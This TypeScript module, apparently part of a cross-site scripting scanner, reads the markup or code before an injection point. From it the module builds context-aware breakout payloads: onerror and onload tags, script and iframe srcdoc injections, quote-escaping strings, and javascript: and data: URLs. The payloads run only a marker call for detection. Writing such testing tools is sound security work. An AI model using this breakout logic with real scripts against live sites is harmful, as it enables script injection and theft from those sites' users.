import type { Sink } from './sources.ts';

/** What to send so that a script runs, from what stood before our text when it arrived. */

const image = (call: string) => `<img src onerror=${call}>`;

/** What ends the tag, comment or element in which markup written by a script has come to stand. */
function endOfMarkup(before: string): string {
  const comment = before.lastIndexOf('<!--');
  if (comment > before.lastIndexOf('-->')) return '-->';
  const raw =
    /<(title|textarea|style|script|noscript|xmp|iframe|select|template)\b[^>]*>(?:(?!<\/\1)[\s\S])*$/i.exec(
      before,
    );
  const open = before.lastIndexOf('<');
  const within = /^<[a-z][^>]*$/i.test(before.slice(open)) && open >= 0 ? before.slice(open) : null;
  if (within === null) return raw ? `</${raw[1]!.toLowerCase()}>` : '';
  let quote = '';
  for (const char of within) {
    if (quote !== '') {
      if (char === quote) quote = '';
    } else if (char === '"' || char === "'") quote = char;
  }
  return `${quote}>`;
}

/** The delimiter of the string at the end of a piece of code; empty in the code itself. */
export function openString(before: string): string {
  let quote = '';
  for (let i = 0; i < before.length; i++) {
    const char = before[i]!;
    if (char === '\\') i += 1;
    else if (quote !== '') {
      if (char === quote || (char === '\n' && quote !== '`')) quote = '';
    } else if (char === '"' || char === "'" || char === '`') quote = char;
  }
  return quote;
}

const handler = (before: string): { quote: string; code: string } | null => {
  const hit = /\son[a-z]+\s*=\s*(["'])([^"']*(?:(?!\1)["'][^"']*)*)$/i.exec(before.slice(-300));
  return hit ? { quote: hit[1]!, code: hit[2]! } : null;
};

function codePayloads(before: string, call: string): string[] {
  const quote = openString(before);
  if (quote === '`') return [`\${${call}}`, `\`-${call}-\``];
  if (quote !== '')
    return [
      `${quote}-${call}-${quote}`,
      `${quote});${call}//`,
      `${quote};${call}//`,
      `\\${quote}-${call}}//`,
      `\\${quote});${call}//`,
    ];
  return [call, `0;${call}`, `${call}//`, `0);${call}//`];
}

export function payloadsFor(sink: Sink, mark: string, id: string): string[] {
  const call = `${mark}(${id})`;
  const { before } = sink;
  switch (sink.sink) {
    case 'html': {
      const inHandler = handler(before);
      const end = endOfMarkup(before);
      const inAddress = /<(a|iframe|form|area)\b[^>]*\s(href|src|action)\s*=\s*["']?$/i.test(
        before.slice(-300),
      );
      const quote = /^["']/.exec(end)?.[0] ?? '';
      return [
        ...(inHandler ? codePayloads(inHandler.code, call) : []),
        `${end}${image(call)}`,
        ...(inAddress ? [`javascript:${call}`] : []),
        `${end}<svg/onload=${mark}\`${id}\`>`,
        ...(end === ''
          ? []
          : [`${quote} onerror=${call} onmouseover=${call} x=${quote}`, `${quote}onerror=${quote}${call}`]),
        `${end}<iframe srcdoc="<script>${call}</script>"></iframe>`,
        `${end}<script>${call}</script>`,
        `'"></title></textarea></select></script>-->${image(call)}`,
      ];
    }
    case 'code':
      return codePayloads(before, call);
    case 'address':
      return before.trim() === ''
        ? [`javascript:${call}`, `javascript:${call}//https://example.com/`, `JaVaScRiPt:${call}`]
        : /^\s*javascript:/i.test(before)
          ? codePayloads(before.replace(/^\s*javascript:/i, ''), call)
          : [];
    case 'program':
      return before.trim() === '' ? [`data:text/javascript,${call}`, `data:,${call}//`] : [];
  }
}
